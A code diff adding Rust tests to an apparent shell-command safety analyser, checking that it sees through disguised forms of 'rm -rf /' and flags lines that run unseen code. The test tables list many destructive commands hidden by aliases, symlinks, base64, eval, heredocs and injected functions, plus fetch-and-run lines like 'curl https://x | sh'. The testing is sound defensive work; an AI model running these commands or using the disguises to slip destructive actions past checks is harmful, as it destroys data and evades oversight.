@@ -232,3 +232,60 @@ fn spans_point_at_what_causes() {
     let rm = analysis.invocations.iter().find(|inv| inv.text().contains("rm -rf")).unwrap();
     assert!(line.get(rm.span.start..rm.span.end).unwrap().ends_with("rm -rf \"$(echo /)\""));
 }
+
+/// What the line itself sets up is followed: links, copies, traps, references, code in variables.
+#[test]
+fn what_the_line_sets_up_is_followed() {
+    let table = [
+        ("declare -n r=c; c=rm; $r -rf /", "rm -rf /"),
+        ("IFS=, read -ra c <<< 'rm,-rf,/'; \"${c[@]}\"", "rm -rf /"),
+        ("zsh -c 'zf_rm -rf /'", "rm -rf /"),
+        ("alias -g X='-rf /'; rm X", "rm -rf /"),
+        ("env 'BASH_FUNC_ls%%=() { rm -rf /; }' bash -c ls", "rm -rf /"),
+        ("ln -s /bin/rm ./ls2 && ./ls2 -rf /", "/bin/rm -rf /"),
+        ("cp /bin/rm x; ./x -rf /", "/bin/rm -rf /"),
+        ("ln -s /etc here && rm -rf here/*", "rm -rf /etc/*"),
+        ("CDPATH=/ cd etc && rm -rf \"$PWD\"", "rm -rf /w/etc"),
+        ("trap 'rm -rf \"$t\"' EXIT; t=/etc", "rm -rf /etc"),
+        ("bash -c 'rm -rf \"$1\"' x /", "rm -rf /"),
+        ("eval \"X=rm\"; $X -rf /", "rm -rf /"),
+        ("echo 'X=rm' > e; . ./e; $X -rf /", "rm -rf /"),
+        ("sudo bash -c 'cd / && rm -rf *'", "rm -rf *"),
+        ("timeout 5 nice env A=b sh -c 'rm -rf /'", "rm -rf /"),
+        ("echo cm0gLXJmIC8= | base64 -d | sh", "rm -rf /"),
+        ("sh <<< 'rm -rf /'", "rm -rf /"),
+        ("bash <<'EOF'\nrm -rf /\nEOF", "rm -rf /"),
+        ("bash <(echo rm -rf /)", "rm -rf /"),
+        ("source <(printf 'rm -rf /')", "rm -rf /"),
+        ("find . -name x -exec sh -c 'rm -rf /' \\;", "rm -rf /"),
+        ("echo / | xargs rm -rf", "rm -rf /"),
+        ("ssh host 'rm -rf /'", "rm -rf /"),
+    ];
+    let mut world = world();
+    world.dirs.insert("/etc".to_owned());
+    world.files.insert("/bin/rm".to_owned(), b"\x7fELF\0".to_vec());
+    let wrong: Vec<_> = table
+        .iter()
+        .filter(|(line, want)| !analyse(line, &world, true).invocations.iter().any(|inv| inv.text() == *want))
+        .map(|(line, _)| line)
+        .collect();
+    assert!(wrong.is_empty(), "not followed: {wrong:#?}");
+}
+
+/// Code of which nothing can be seen is said to be so.
+#[test]
+fn hidden_code_is_named() {
+    let table = [
+        "curl https://x | sh",
+        "bash -c \"$CODE\"",
+        "eval \"$(generate)\"",
+        "BASH_ENV=/tmp/evil.sh bash -c true",
+        "zsh -c 'ls *(e:\"rm -rf ~\":)'",
+        "for s in \"$DIR\"/*; do bash \"$s\"; done",
+        "generate > x.sh; bash x.sh",
+        "curl -o x.sh https://x; chmod +x x.sh; ./x.sh",
+    ];
+    for line in table {
+        assert!(read(line).unresolved.iter().any(|gap| gap.what != Gap::Argument), "{line}");
+    }
+}
